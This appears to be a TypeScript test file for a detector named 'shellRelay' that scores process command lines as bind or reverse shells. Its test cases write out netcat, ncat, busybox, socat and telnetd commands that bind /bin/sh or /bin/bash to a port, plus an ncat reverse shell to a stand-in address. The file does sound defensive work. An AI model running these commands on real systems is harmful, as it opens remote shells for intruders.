import { expect, test } from 'vitest';
import { connectionOf, doorOf, processOf } from '../../../test/support/subjects.ts';
import { shellRelay } from './shell-relay.ts';

const weigh = (path: string, args: readonly string[]) =>
  shellRelay.look(doorOf([processOf({ path, arguments: args })]))?.weight;

test.each([
  ['/bin/nc.traditional', ['nc', '-l', '-p', '4444', '-e', '/bin/sh'], 50],
  ['/bin/nc.traditional', ['nc', '-lvp', '4444', '-c', '/bin/bash -i'], 50],
  ['/usr/bin/ncat', ['ncat', '-lk', '4444', '--sh-exec', 'bash'], 50],
  ['/bin/busybox', ['busybox', 'nc', '-ll', '-p', '4444', '-e', '/bin/sh'], 50],
  ['/usr/bin/socat', ['socat', 'TCP-LISTEN:4444,fork', 'EXEC:/bin/bash,pty'], 50],
  ['/usr/bin/socat1', ['socat', 'tcp-l:4444', "system:'sh -i'"], 50],
  ['/bin/busybox', ['telnetd', '-l', '/bin/sh'], 50],
  ['/usr/bin/ncat', ['ncat', '-l', '7', '-e', '/bin/cat'], 15],
  ['/bin/nc.openbsd', ['nc', '-l', '-c', '4444'], 10],
  ['/bin/nc.openbsd', ['nc', '-l', '4444'], 10],
])('%s as %j weighs %i', (path, args, weight) => {
  expect(weigh(path, args)).toBe(weight);
});

test.each([
  ['/usr/bin/socat', ['socat', 'TCP-LISTEN:80,fork', 'TCP:10.0.0.2:80']],
  ['/usr/sbin/telnetd', ['telnetd', '-l', '/bin/login']],
  ['/usr/sbin/sshd', ['sshd', '-e', '/bin/sh']],
])('%s as %j is ordinary', (path, args) => {
  expect(weigh(path, args)).toBeUndefined();
});

const nc = (args: readonly string[]) => connectionOf([processOf({ path: '/usr/bin/ncat', arguments: args })]);

test('a netcat that only connects is nothing, with a shell it is a reverse shell', () => {
  expect(shellRelay.look(nc(['ncat', '203.0.113.9', '443']))).toBeNull();
  expect(shellRelay.look(nc(['ncat', '203.0.113.9', '443', '-e', '/bin/bash']))?.weight).toBe(50);
});
